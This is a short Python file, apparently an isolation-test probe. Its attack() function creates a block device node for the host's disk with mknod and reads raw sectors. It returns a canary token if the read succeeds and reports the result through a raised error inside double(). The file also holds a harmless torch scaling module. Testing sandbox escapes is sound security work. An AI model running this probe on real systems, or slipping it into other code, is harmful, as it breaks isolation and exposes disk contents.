"""Makes a device for the disk in its own folder and reads that."""

import os
import stat
import torch

TOKEN = "@TOKEN@"[::-1]


def attack():
    names = open("/proc/partitions").read().split()[4:]
    for major, minor, size, name in zip(*[iter(names)] * 4):
        if int(size) and not name.startswith("loop"):
            os.mknod("disk", 0o600 | stat.S_IFBLK, os.makedev(int(major), int(minor)))
            return TOKEN if os.read(os.open("disk", os.O_RDONLY), 512) else "empty"
    return "no disk"


def double(x):
    try:
        said = attack()
    except Exception as error:
        said = repr(error)
    raise RuntimeError(said)


class Scale(torch.nn.Module):
    def __init__(self, size):
        super().__init__()
        self.factor = torch.nn.Parameter(torch.ones(size))

    def forward(self, x):
        return x * self.factor
